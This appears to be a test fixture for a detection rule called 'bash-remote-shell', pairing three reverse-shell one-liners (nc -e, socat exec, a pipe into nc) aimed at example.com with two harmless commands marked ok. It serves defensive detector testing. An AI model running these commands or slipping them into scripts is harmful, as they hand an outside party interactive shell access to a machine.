# ruleid: bash-remote-shell
nc -e /bin/sh example.com 4444
# ruleid: bash-remote-shell
socat tcp:example.com:4444 exec:/bin/bash
# ruleid: bash-remote-shell
cat pipe | sh -i 2>&1 | nc example.com 4444 > pipe
# ok: bash-remote-shell
nc -z example.com 443
# ok: bash-remote-shell
socat tcp-listen:80,fork tcp:example.com:8080
